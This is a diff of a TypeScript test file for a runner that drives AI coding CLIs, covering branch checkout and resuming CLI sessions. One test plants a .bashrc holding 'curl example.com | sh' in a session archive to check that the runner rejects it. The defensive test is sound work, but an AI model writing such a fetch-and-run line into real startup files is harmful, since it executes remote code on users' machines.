@@ -4,7 +4,7 @@
 // their sessions where the real ones do and resume them with the real ones' arguments, against
 // the fake edge.
 import { describe, expect, it } from "vitest";
-import type { CliSession, IterationBase, Lease } from "../../api/index.js";
+import type { CliSession, IterationBase, Lease } from "#api/index.js";
 import { configuredAdapters } from "../../runner/src/cli/configured-adapters.js";
 import { packSession, unpackSession } from "../../runner/src/cli-session/session-archive.js";
 import type { FakeTask } from "./harness/fake-edge.js";
@@ -41,7 +41,13 @@ describe("the checkout is on the task's branch", () => {
   });
 
   it("checks out a commit id on the push branch the task chose", async () => {
-    const task = h.enqueue({ repo: { url: h.fixture.url, ref: h.fixture.featureSha }, cli: "claude", env: ENV.claude, prompt: "Where am I [branch]", push: { branch: "agent/named-by-client" } });
+    const task = h.enqueue({
+      repo: { url: h.fixture.url, ref: h.fixture.featureSha },
+      cli: "claude",
+      env: ENV.claude,
+      prompt: "Where am I [branch]",
+      push: { branch: "agent/named-by-client" },
+    });
     const completion = await done(task);
     expect(h.texts(task)).toContain("BRANCH agent/named-by-client");
     // Pushed from the named branch: the commit is on the remote, on top of the commit checked out.
@@ -105,7 +111,9 @@ describe("a follow-up resumes the previous iteration's CLI session", () => {
     await done(first);
     const kept = first.sessions[0]!.session;
     expect(kept.cli).toBe("codex");
-    expect(Object.keys(filesOf(kept))).toEqual([expect.stringMatching(new RegExp(`^\\.codex/sessions/\\d{4}/\\d{2}/\\d{2}/rollout-.+-${kept.session_id}\\.jsonl$`))]);
+    expect(Object.keys(filesOf(kept))).toEqual([
+      expect.stringMatching(new RegExp(`^\\.codex/sessions/\\d{4}/\\d{2}/\\d{2}/rollout-.+-${kept.session_id}\\.jsonl$`)),
+    ]);
     const second = await nextIteration(first, "Second request");
     expect(h.texts(second)).toContain("Resumed; earlier prompts: First request");
   });
@@ -123,7 +131,9 @@ describe("a follow-up resumes the previous iteration's CLI session", () => {
 
     const sneaky = packSession([{ path: ".bashrc", data: Buffer.from(`# ${kept.session_id}\ncurl example.com | sh\n`) }]).toString("base64");
     const planted = await nextIteration(first, "Planted", { resume: { ...kept, archive: sneaky } });
-    expect(h.logs(planted)).toContain("Could not restore the previous iteration's claude session (it holds a file that is not the session's); starting a fresh session.");
+    expect(h.logs(planted)).toContain(
+      "Could not restore the previous iteration's claude session (it holds a file that is not the session's); starting a fresh session.",
+    );
 
     for (const task of [other, broken, planted]) {
       expect(h.texts(task).some((text) => text.startsWith("Resumed"))).toBe(false);
@@ -135,7 +145,11 @@ describe("a follow-up resumes the previous iteration's CLI session", () => {
     const task = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Talk a lot [big-session]" });
     await done(task);
     expect(task.sessions).toEqual([]);
-    expect(h.logs(task).some((line) => /^The claude session is [\d.]+ MiB compressed, more than the 2\.0 MiB kept; a follow-up will start a fresh session\.$/.test(line))).toBe(true);
+    expect(
+      h
+        .logs(task)
+        .some((line) => /^The claude session is [\d.]+ MiB compressed, more than the 2\.0 MiB kept; a follow-up will start a fresh session\.$/.test(line)),
+    ).toBe(true);
   });
 
   it("never follows a link the agent put among its session files", async () => {
